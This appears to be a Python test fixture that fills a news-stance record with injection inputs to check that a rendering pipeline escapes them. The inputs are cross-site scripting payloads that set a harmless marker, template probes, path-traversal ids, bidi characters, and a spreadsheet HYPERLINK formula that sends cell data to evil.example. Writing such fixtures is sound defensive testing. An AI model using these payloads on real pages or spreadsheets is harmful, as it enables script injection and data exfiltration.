"""A story that tries to get out of its place in the page. Whatever part of it runs sets ``window.owned``."""

from runfolder import Told, article, cite, dispute, evidence, sentence, side, stance, told

from pipeline.records import StanceLabel

STORY_ID = "h\"o'stile/../<b>&#x3c;?%2e#😀 1"
TITLE = "\"Quoted\" & 'quoted' </title><script>window.owned = 1</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
LONG = "Donaudampf" * 40
ARABIC = "قال رئيس البلدية إن الجسر <b>مغلق</b> حتى إشعار آخر."
HEBREW = "ראש העיר אמר (אתמול) שהגשר סגור."
EMOJI = "The crowd cheered 👩‍👩‍👧‍👦🏳️‍🌈 and left 🚶🏽."
SCRIPT = "</script><script>window.owned = 2</script> stood in the <!-- <script> leaflet."
IMAGE = '<img src=x onerror="window.owned = 3"> opened the council\'s letter.'
LINK = 'Read <a href="javascript:window.owned = 4" onclick="window.owned = 5">this</a> {{ 7*7 }} ${7*7}.'
STYLE = "</style><style>body{display:none}</style><svg onload=window.owned=6> was the reply."
SEPARATORS = "One line\u2028another paragraph\u2029and \u202etxet desrever\u202c ended it."
TEXTS = (ARABIC, HEBREW, EMOJI, SCRIPT, IMAGE, LINK, STYLE, SEPARATORS)


def hostile() -> Told:
    """Three articles; names, ids, addresses, claims, values and texts all hold something that wants to run."""
    first = article(
        "a b\"c<d>&e'/../#?%41",
        FORMULA,
        "<img src=x onerror=window.owned=7>",
        f"{SCRIPT}\n{IMAGE}\n{LINK}\n\n{STYLE}\n{SEPARATORS}",
        published='2031-03-05"><script>window.owned = 8</script>',
        url="javascript:window.owned=9",
    )
    second = article(
        "toString",
        '"><script>window.owned = 10</script>',
        LONG,
        f"{LONG} was printed.\n{EMOJI}\n\n{ARABIC}\n{HEBREW}",
        published="2031-03-05T10:00:00+00:00",
        url='https://evil.example/"onmouseover="window.owned=11"><script>window.owned=12</script>',
    )
    third = article("خبر-٣", "صحيفة المدينة", ARABIC, f"{ARABIC}\n{HEBREW}", published="2031-03-05T11:00:00+00:00")
    claim = "<b onmouseover=window.owned=13>The letter</b> was @SUM(A1) opened."
    return told(
        STORY_ID,
        TITLE,
        (first, second, third),
        (
            sentence(SCRIPT, cite(first, SCRIPT), failed="names", support=0.4),
            sentence(f"{LONG} was printed.", cite(second, f"{LONG} was printed.")),
            sentence(ARABIC, cite(second, ARABIC), cite(third, ARABIC)),
            sentence(EMOJI, cite(second, EMOJI)),
            sentence(SEPARATORS, cite(first, SEPARATORS)),
        ),
        disputes=(
            dispute(
                "<i>what</i> was opened",
                "outcome",
                side("<img src=x onerror=window.owned=14>", cite(first, IMAGE)),
                side("مغلق", cite(third, ARABIC)),
            ),
        ),
        stances=(
            stance(
                "-2+3",
                claim,
                first,
                StanceLabel.SUPPORTS,
                evidence(first, IMAGE, 0.9, 0.1, speaker="<script>window.owned=15</script>"),
                quoted=True,
            ),
            stance("-2+3", claim, second, StanceLabel.NOT_STATED),
            stance("-2+3", claim, third, StanceLabel.REFUTES, evidence(third, HEBREW, 0.1, 0.9)),
        ),
        loaded=((first, "leaflet"),),
    )
